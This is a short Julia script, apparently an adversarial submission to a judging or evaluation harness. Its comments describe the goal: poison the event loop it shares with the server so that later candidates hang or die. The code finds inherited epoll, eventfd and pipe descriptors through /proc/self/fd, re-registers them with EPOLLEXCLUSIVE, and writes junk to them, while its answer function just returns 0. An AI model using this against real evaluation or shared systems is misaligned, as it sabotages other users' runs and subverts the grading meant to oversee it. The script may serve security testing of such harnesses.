# tries: to poison the event loop shared with the server: its epoll set, its eventfd, its pipes | got through if: a later candidate hangs or dies when it waits
answer(x) = 0
link(fd) = try readlink("/proc/self/fd/$fd") catch; "" end
links = Dict(fd => link(fd) for fd in 3:63)
# Not the judge's channel, which has one end here: that would end the attack at once.
inner = [fd for (fd, l) in links if occursin("anon_inode", l) || (startswith(l, "pipe:") && l != link(1) && count(==(l), values(links)) == 2)]
junk = fill(0x41, 64)
# An exclusive entry (EPOLLEXCLUSIVE, EPOLLIN) cannot be changed afterwards: libuv gives up where it must.
entry = UInt32[0x10000001, 0, 0, 0]
for fd in inner, other in inner
    ccall(:epoll_ctl, Cint, (Cint, Cint, Cint, Ptr{UInt32}), fd, 2, other, entry)      # remove
    ccall(:epoll_ctl, Cint, (Cint, Cint, Cint, Ptr{UInt32}), fd, 1, other, entry)      # add
end
for fd in inner
    ccall(:fcntl, Cint, (Cint, Cint, Cint), fd, 4, 0o4000)                             # do not block
    ccall(:read, Cssize_t, (Cint, Ptr{UInt8}, Csize_t), fd, junk, 64)
    ccall(:write, Cssize_t, (Cint, Ptr{UInt8}, Csize_t), fd, vcat(0xfe, fill(0xff, 7)), 8)
    ccall(:write, Cssize_t, (Cint, Ptr{UInt8}, Csize_t), fd, fill(0x41, 24), 24)
end
